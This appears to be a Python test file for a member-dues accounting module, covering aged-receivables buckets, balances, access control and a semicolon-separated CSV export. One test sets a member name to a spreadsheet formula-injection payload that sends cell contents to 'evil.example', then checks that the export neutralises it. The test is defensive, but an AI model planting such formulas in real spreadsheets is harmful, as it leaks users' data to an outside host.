"""What members owe, aged from their invoices' due dates, read from the journal; as a table for
the lead and as a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from sqlalchemy import select

from money.dues import issue_dues
from money.invoicing import issue_batch_invoices
from money.journal import member_balance
from money.models import MemberDues
from money.payments import PaymentValues, receive_payment
from money.receivables import BUCKETS, aged_receivables, bucket_of, receivables_csv
from persistence.audit import AuditEvent
from purchasing.errors import NotAllowed

ISSUED = date(2027, 1, 15)  # due 30 days later, on 14 February
ZERO = Decimal("0.00")


@pytest.mark.parametrize(
    ("days", "bucket"),
    [(-3, None), (0, None), (1, 0), (30, 0), (31, 1), (60, 1), (61, 2), (90, 2), (91, 3)],
)
def test_days_past_due_fall_in_one_bucket(days, bucket):
    assert bucket_of(days) == bucket


@pytest.fixture
def billed(session, received):
    """Both members invoiced for the batch; the first also owes old dues of two years, the
    second paid 50 € of its invoice."""
    first, second = received.members
    session.add(MemberDues(member_id=first.id, amount=Decimal("80.00")))
    session.flush()
    issue_dues(session, 2026, date(2026, 10, 1), actor=None)  # due 31 October: 112 days late
    issue_dues(session, 2027, date(2026, 12, 15), actor=None)  # due 14 January: 37 days late
    invoices = issue_batch_invoices(session, received.batch.id, ISSUED, actor=None).issued
    batch_invoice = {invoice.member_id: invoice for invoice in invoices}
    receive_payment(
        session,
        PaymentValues(second.id, Decimal("50.00"), ISSUED, "transfer", "VIR 1"),
        actor=None,
    )
    session.commit()
    return received, batch_invoice


def test_each_members_balance_and_what_is_overdue_per_bucket(session, billed):
    received, batch_invoice = billed
    first, second = received.members

    aged = aged_receivables(session, received.lead, date(2027, 2, 20))

    rows = {row.member_id: row for row in aged.members}
    velo, epicerie = rows[first.id], rows[second.id]
    assert velo.balance == member_balance(session, first.id)
    assert velo.balance == batch_invoice[first.id].total_incl + Decimal("160.00")
    assert velo.not_due == ZERO
    assert velo.overdue == (
        batch_invoice[first.id].total_incl,  # 6 days late
        Decimal("80.00"),  # the 2027 dues, 37 days late
        ZERO,
        Decimal("80.00"),  # the 2026 dues, 112 days late
    )
    assert epicerie.overdue == (batch_invoice[second.id].total_incl - 50, ZERO, ZERO, ZERO)
    assert epicerie.balance == epicerie.overdue_total
    assert aged.balance == velo.balance + epicerie.balance
    assert [invoice.number for invoice in aged.invoices if invoice.member_id == first.id] == [
        "FA-2026-00001",
        "FA-2026-00002",
        batch_invoice[first.id].number,
    ]


def test_an_invoice_is_not_overdue_on_its_due_date(session, billed):
    received, batch_invoice = billed
    first, second = received.members

    aged = aged_receivables(session, None, date(2027, 2, 14))

    rows = {row.member_id: row for row in aged.members}
    assert rows[second.id].not_due == batch_invoice[second.id].total_incl - 50
    assert rows[second.id].overdue_total == ZERO
    assert rows[first.id].not_due == batch_invoice[first.id].total_incl
    assert aged.not_due == rows[first.id].not_due + rows[second.id].not_due


def test_a_member_sees_no_one_elses_receivables(session, billed):
    received, _ = billed
    with pytest.raises(NotAllowed):
        aged_receivables(session, received.users[0], date(2027, 2, 20))


def test_the_receivables_spreadsheet_puts_each_open_amount_in_its_age(session, billed):
    received, batch_invoice = billed
    second = received.members[1]

    content = receivables_csv(session, date(2027, 2, 20), actor=received.lead)

    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][-5:] == [
        "Non échu",
        "Retard 0-30 j",
        "Retard 31-60 j",
        "Retard 61-90 j",
        "Retard +90 j",
    ]
    by_number = {row[2]: row for row in rows[1:-1]}
    assert len(by_number) == 4
    assert by_number["FA-2026-00001"][-5:] == ["", "", "", "", "80,00"]
    assert by_number["FA-2026-00001"][7] == "112"
    assert by_number["FA-2026-00002"][-5:] == ["", "", "80,00", "", ""]
    open_second = f"{batch_invoice[second.id].total_incl - 50:.2f}".replace(".", ",")
    assert by_number[batch_invoice[second.id].number][6] == open_second
    assert by_number[batch_invoice[second.id].number][-4] == open_second
    assert rows[-1][0] == "Total"
    assert len(BUCKETS) == 4
    second.name = '=HYPERLINK("http://evil.example/?d="&A2;"Relevé")'
    session.flush()
    written = receivables_csv(session, date(2027, 2, 20), actor=received.lead).decode("utf-8-sig")
    assert "'=HYPERLINK" in written and ";=HYPERLINK" not in written
    event = session.scalar(select(AuditEvent).where(AuditEvent.action == "books.receivables_csv"))
    assert event.user_id == received.lead.id


def test_a_settled_invoice_is_no_receivable(session, billed):
    received, batch_invoice = billed
    first = received.members[0]
    receive_payment(
        session,
        PaymentValues(first.id, Decimal("1000.00"), date(2027, 2, 1), "transfer", "VIR 2"),
        actor=None,
    )
    session.commit()

    aged = aged_receivables(session, None, date(2027, 2, 20))

    assert [invoice.member_id for invoice in aged.invoices] == [received.members[1].id]
    velo = next(row for row in aged.members if row.member_id == first.id)
    assert velo.overdue_total == ZERO
    assert velo.balance == batch_invoice[first.id].total_incl + 160 - 1000 < 0
